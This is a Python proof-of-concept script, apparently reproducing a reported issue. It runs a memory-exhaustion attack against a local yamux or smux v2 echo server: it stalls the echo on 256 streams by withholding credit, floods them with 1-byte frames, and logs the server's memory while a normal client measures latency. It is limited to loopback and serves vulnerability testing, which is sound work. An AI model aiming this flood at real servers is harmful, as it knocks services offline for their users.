#!/usr/bin/env python3
"""issue-9 row 1 against `polymux echo`: 1-byte Data frames on streams whose echo is stalled
(the attacker reads and discards, but never returns credit). A second, well-behaved client
does echo round trips on fresh streams throughout. Prints RSS of the server over time.

Usage (loopback only; bounded by DURATION):
  polymux echo --listen 127.0.0.1:9000 --protocol yamux &   # or smux2
  python3 attack_tiny_frames.py yamux 9000 $! [STREAMS=256] [DURATION=40]

Stage 1 uses up each stream's initial credit in 64 KiB frames, so every echo stalls on the
credit the attacker never returns; stage 2 sends 1-byte frames within the credit the server
grants (yamux window updates, smux v2 UPD frames), which is what the server then holds."""
import socket, struct, sys, threading, time

proto, port, pid = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
STREAMS = int(sys.argv[4]) if len(sys.argv) > 4 else 256
DURATION = float(sys.argv[5]) if len(sys.argv) > 5 else 40.0

def rss():
    for line in open(f"/proc/{pid}/status"):
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    return 0

# --- framing ---
def yamux(typ, flags, sid, length, payload=b""):
    return struct.pack(">BBHII", 0, typ, flags, sid, length) + payload
def smux2(cmd, sid, payload=b""):
    return struct.pack("<BBHI", 2, cmd, len(payload), sid) + payload

def open_frame(sid):
    return yamux(1, 1, sid, 0) if proto == "yamux" else smux2(0, sid)
def data1(sid):
    return yamux(0, 0, sid, 1, b"x") if proto == "yamux" else smux2(2, sid, b"x")
def fin(sid):
    return yamux(0, 4, sid, 0) if proto == "yamux" else smux2(1, sid)

stop = threading.Event()
sent_payload = [0, 0]

credit = {}
sent = {}
credit_lock = threading.Lock()
def drain(sock):
    """Reads and discards the echo (never returning credit); tracks the credit the server
    grants us (yamux window updates) so that the attack stays within the protocol."""
    sock.settimeout(1.0)
    buf = b""
    while not stop.is_set():
        try:
            d = sock.recv(1 << 20)
            if not d:
                return
        except socket.timeout:
            continue
        except OSError:
            return
        buf += d
        while proto != "yamux" and len(buf) >= 8:
            _, cmd, length, sid = struct.unpack("<BBHI", buf[:8])
            if len(buf) < 8 + length:
                break
            if cmd == 4 and length == 8:
                consumed, window = struct.unpack("<II", buf[8:16])
                with credit_lock:
                    credit[sid] = consumed + window - sent.get(sid, 0)
            buf = buf[8 + length:]
        while proto == "yamux" and len(buf) >= 12:
            _, typ, flags, sid, length = struct.unpack(">BBHII", buf[:12])
            plen = length if typ == 0 else 0
            if len(buf) < 12 + plen:
                break
            if typ == 1:
                with credit_lock:
                    credit[sid] = credit.get(sid, 0) + length
            buf = buf[12 + plen:]

def attacker():
    s = socket.create_connection(("127.0.0.1", port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    threading.Thread(target=drain, args=(s,), daemon=True).start()
    sids = [1 + 2 * i for i in range(STREAMS)] if proto == "yamux" else [1 + 2 * i for i in range(STREAMS)]
    with credit_lock:
        for i in sids:
            credit[i] = 256 * 1024
    s.sendall(b"".join(open_frame(i) for i in sids))
    # Stage 1: use up each stream's initial credit in large frames, so that the echo of it
    # exhausts the credit we never return: every echo is then stalled.
    big = b"z" * 65536
    bigframe = (lambda i: yamux(0, 0, i, len(big), big)) if proto == "yamux" else (lambda i: b"".join(smux2(2, i, big[:32768]) for _ in range(2)))
    for _ in range(4):
        s.sendall(b"".join(bigframe(i) for i in sids))
    with credit_lock:
        for i in sids:
            credit[i] -= 4 * len(big)
            sent[i] = 4 * len(big)
    sent_payload[1] = 4 * len(big) * len(sids)
    # Stage 2: 1-byte frames within whatever credit the server grants.
    s.settimeout(2.0)
    deadline = time.time() + DURATION
    frame = {i: data1(i) for i in sids}
    while time.time() < deadline and not stop.is_set():
        parts = []
        with credit_lock:
            for i in sids:
                n = min(credit[i], 256)
                if n > 0:
                    credit[i] -= n
                    sent[i] = sent.get(i, 0) + n
                    parts.append(frame[i] * n)
        if not parts:
            time.sleep(0.05)
            continue
        chunk = b"".join(parts)
        try:
            s.sendall(chunk)
            sent_payload[0] += len(chunk) // len(data1(1))
        except socket.timeout:
            pass  # back-pressure: the server stopped reading
        except OSError as e:
            print("attacker: connection ended:", e, flush=True)
            return

good = {"ok": 0, "fail": 0, "max_ms": 0.0}
def good_client():
    s = socket.create_connection(("127.0.0.1", port))
    s.settimeout(5.0)
    sid = 1
    buf = b""
    msg = b"y" * 1024
    while not stop.is_set():
        t0 = time.time()
        try:
            s.sendall(open_frame(sid) + (yamux(0, 0, sid, len(msg), msg) if proto == "yamux" else smux2(2, sid, msg)))
            got = 0
            while got < len(msg):
                while True:
                    hl = 12 if proto == "yamux" else 8
                    if len(buf) >= hl:
                        if proto == "yamux":
                            _, typ, flags, fsid, length = struct.unpack(">BBHII", buf[:12])
                            plen = length if typ == 0 else 0
                        else:
                            _, cmd, length, fsid = struct.unpack("<BBHI", buf[:8])
                            typ = 0 if cmd == 2 else 9
                            plen = length
                        if len(buf) >= hl + plen:
                            if typ == 0 and fsid == sid:
                                got += plen
                            buf = buf[hl + plen:]
                            continue
                    break
                if got >= len(msg):
                    break
                d = s.recv(65536)
                if not d:
                    raise OSError("closed")
                buf += d
            s.sendall(fin(sid))
            good["ok"] += 1
            good["max_ms"] = max(good["max_ms"], (time.time() - t0) * 1000)
        except Exception as e:
            good["fail"] += 1
            print("good client:", e, flush=True)
            return
        sid += 2
        time.sleep(0.1)

base = rss()
print(f"{proto}: baseline RSS {base/2**20:.1f} MiB; {STREAMS} stalled streams, {DURATION:.0f} s", flush=True)
ta = threading.Thread(target=attacker, daemon=True); ta.start()
tg = threading.Thread(target=good_client, daemon=True); tg.start()
peak = base
t_start = time.time()
while time.time() - t_start < DURATION:
    time.sleep(1.0)
    r = rss(); peak = max(peak, r)
    print(f"  t={time.time()-t_start:4.0f}s RSS {r/2**20:6.1f} MiB (+{(r-base)/2**20:5.1f}) attacker payload sent {sent_payload[0]/2**20:6.2f} MiB good round trips {good['ok']}", flush=True)
stop.set()
time.sleep(1.5)
print(f"{proto}: peak growth {(peak-base)/2**20:.1f} MiB; bulk {sent_payload[1]/2**20:.0f} MiB then {sent_payload[0]/2**20:.2f} MiB (in 1-byte frames); good client {good['ok']} round trips, {good['fail']} failures, slowest {good['max_ms']:.0f} ms", flush=True)
